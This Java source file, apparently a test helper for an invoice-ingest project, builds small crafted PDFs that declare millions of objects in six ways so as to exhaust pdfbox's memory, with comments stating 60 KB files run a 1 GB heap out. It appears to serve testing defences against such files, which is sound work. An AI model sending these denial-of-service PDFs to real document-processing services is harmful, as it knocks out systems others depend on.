package io.github.camelpop3ingest.invoice;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;

/**
 * Builds small PDFs that declare {@code n} objects, in each of the ways pdfbox allocates for declared objects, with
 * one page and an embedded {@value #EMBEDDED_NAME} that shows when the PDF is opened.
 */
public final class HostilePdfs {

    /** The file embedded in every PDF built here. */
    public static final String EMBEDDED_NAME = "note.txt";

    private static final byte[] EMBEDDED_CONTENT =
            "This PDF declares more objects than it holds.\n".getBytes(StandardCharsets.US_ASCII);


    private HostilePdfs() {}

    /**
     * A PDF whose xref stream has {@code /Size n} and n entries, all in use: free entries would cost pdfbox nothing.
     * The entries beyond the real objects are at offset 0, which pdfbox keeps without checking each one, and compress
     * about 1000:1, so 20 million of them take about 60 KB; pdfbox 3.0.8 runs out of a 1 GB heap on them.
     *
     * @param n the objects declared, at least the 7 the PDF has
     * @return the PDF's bytes
     */
    public static byte[] declaringObjects(int n) {
        PdfWriter pdf = PdfWriter.withEmbeddedFile();
        return pdf.finishWithXrefStream("/Size " + n, n);
    }

    /** A PDF whose xref stream declares n entries in {@code /Index [0 n]}, which pdfbox takes over its small /Size. */
    public static byte[] declaringObjectsInIndex(int n) {
        PdfWriter pdf = PdfWriter.withEmbeddedFile();
        return pdf.finishWithXrefStream("/Size " + (pdf.objects() + 1) + " /Index [0 " + n + "]", n);
    }

    /**
     * A PDF whose xref stream gives its /Size as a reference to an object holding n, which pdfbox resolves; the
     * stream holds n entries.
     */
    public static byte[] declaringObjectsByReference(int n) {
        PdfWriter pdf = PdfWriter.withEmbeddedFile();
        int size = pdf.object(Integer.toString(n));
        return pdf.finishWithXrefStream("/Size " + size + " 0 R", n);
    }

    /**
     * A PDF with a cross-reference table whose subsection header declares n entries and is followed by the few real
     * ones: pdfbox reads entries up to the declared count while they are there.
     */
    public static byte[] declaringObjectsInTable(int n) {
        PdfWriter pdf = PdfWriter.withEmbeddedFile();
        return pdf.finishWithTable(n);
    }

    /** A PDF with an object stream whose /N declares n objects; pdfbox parses up to that many offset pairs. */
    public static byte[] declaringObjectsInObjectStream(int n) {
        PdfWriter pdf = PdfWriter.withEmbeddedFile();
        // One object inside, never referenced; the stream's objects follow its header of number and offset pairs.
        String header = (pdf.objects() + 3) + " 0 ";
        int stream = pdf.stream("/Type /ObjStm /N " + n + " /First " + header.length(),
                (header + "null").getBytes(StandardCharsets.US_ASCII));
        return pdf.finishWithXrefStream("/Size " + (pdf.objects() + 3), pdf.objects() + 3, stream);
    }

    /**
     * A PDF of n object headers without cross-reference data, which pdfbox rebuilds by finding every header; about
     * 20 bytes per object.
     */
    public static byte[] holdingObjects(int n) {
        PdfWriter pdf = PdfWriter.withEmbeddedFile();
        while (pdf.objects() < n) {
            pdf.object("null");
        }
        return pdf.finishWithoutCrossReference();
    }

    /** Writes objects in order and remembers their offsets, as a PDF writer does. */
    private static final class PdfWriter {

        private final ByteArrayOutputStream out = new ByteArrayOutputStream();
        /** Offsets by object number; object 0 is the head of the free list. */
        private final List<Long> offsets = new ArrayList<>(List.of(0L));

        /** Objects 1 to 5: catalog, page tree, page, file specification and embedded file. */
        static PdfWriter withEmbeddedFile() {
            PdfWriter pdf = new PdfWriter();
            pdf.text("%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n");
            pdf.object("<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(" + EMBEDDED_NAME
                    + ") 4 0 R] >> >> >>");
            pdf.object("<< /Type /Pages /Kids [3 0 R] /Count 1 >>");
            pdf.object("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>");
            pdf.object("<< /Type /Filespec /F (" + EMBEDDED_NAME + ") /UF (" + EMBEDDED_NAME
                    + ") /EF << /F 5 0 R >> >>");
            pdf.stream("/Type /EmbeddedFile /Subtype /text#2Fplain", EMBEDDED_CONTENT);
            return pdf;
        }

        int objects() {
            return offsets.size() - 1;
        }

        int object(String body) {
            offsets.add((long) out.size());
            text(objects() + " 0 obj\n" + body + "\nendobj\n");
            return objects();
        }

        int stream(String entries, byte[] data) {
            offsets.add((long) out.size());
            text(objects() + " 0 obj\n<< " + entries + " /Length " + data.length + " >>\nstream\n");
            out.writeBytes(data);
            text("\nendstream\nendobj\n");
            return objects();
        }

        /**
         * Ends with an xref stream of {@code entries} entries, {@code /W [1 2 0]}: the real objects, the stream
         * itself, a compressed object at index 0 of the object stream if one is given, then in-use entries at offset
         * 0 (pdfbox gives up checking offsets at the first of them instead of warning about each).
         */
        byte[] finishWithXrefStream(String sizeEntries, int entries, int... objectStream) {
            int self = objects() + 1;
            requireRealObjects(entries, self + 1 + objectStream.length);
            long selfOffset = out.size();
            ByteArrayOutputStream deflated = new ByteArrayOutputStream();
            try (DeflaterOutputStream data = new DeflaterOutputStream(deflated, new Deflater(Deflater.BEST_COMPRESSION),
                    64 * 1024)) {
                data.write(entry(0, 0));
                for (int i = 1; i < self; i++) {
                    data.write(entry(1, offsets.get(i)));
                }
                data.write(entry(1, selfOffset));
                int written = self + 1;
                if (objectStream.length > 0) {
                    data.write(entry(2, objectStream[0]));
                    written++;
                }
                byte[] chunk = repeated(entry(1, 0), 64 * 1024);
                while (written < entries) {
                    int now = Math.min(entries - written, 64 * 1024);
                    data.write(chunk, 0, now * 3);
                    written += now;
                }
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
            offsets.add(selfOffset);
            byte[] data = deflated.toByteArray();
            text(self + " 0 obj\n<< /Type /XRef " + sizeEntries + " /W [1 2 0] /Root 1 0 R /Filter /FlateDecode"
                    + " /Length " + data.length + " >>\nstream\n");
            out.writeBytes(data);
            text("\nendstream\nendobj\nstartxref\n" + selfOffset + "\n%%EOF\n");
            return out.toByteArray();
        }

        /** Ends with a table whose one subsection declares {@code entries} but lists only the real objects. */
        byte[] finishWithTable(int entries) {
            requireRealObjects(entries, objects() + 1);
            long xref = out.size();
            StringBuilder table = new StringBuilder("xref\n0 " + entries + "\n0000000000 65535 f\r\n");
            for (int i = 1; i <= objects(); i++) {
                table.append(String.format("%010d 00000 n\r\n", offsets.get(i)));
            }
            text(table + "trailer\n<< /Size " + (objects() + 1) + " /Root 1 0 R >>\nstartxref\n" + xref
                    + "\n%%EOF\n");
            return out.toByteArray();
        }

        byte[] finishWithoutCrossReference() {
            text("trailer\n<< /Size " + (objects() + 1) + " /Root 1 0 R >>\n%%EOF\n");
            return out.toByteArray();
        }

        private static void requireRealObjects(int declared, int real) {
            if (declared < real) {
                throw new IllegalArgumentException("declares " + declared + " objects, fewer than its own " + real);
            }
        }

        private void text(String text) {
            out.writeBytes(text.getBytes(StandardCharsets.ISO_8859_1));
        }

        /** Type, then a two-byte offset or object stream number; the third field, width 0, defaults to 0. */
        private static byte[] entry(int type, long field) {
            if (field > 0xffff) {
                throw new IllegalStateException("offset beyond two bytes: " + field);
            }
            return new byte[] {(byte) type, (byte) (field >> 8), (byte) field};
        }

        private static byte[] repeated(byte[] entry, int times) {
            byte[] bytes = new byte[entry.length * times];
            for (int i = 0; i < bytes.length; i++) {
                bytes[i] = entry[i % entry.length];
            }
            return bytes;
        }
    }
}
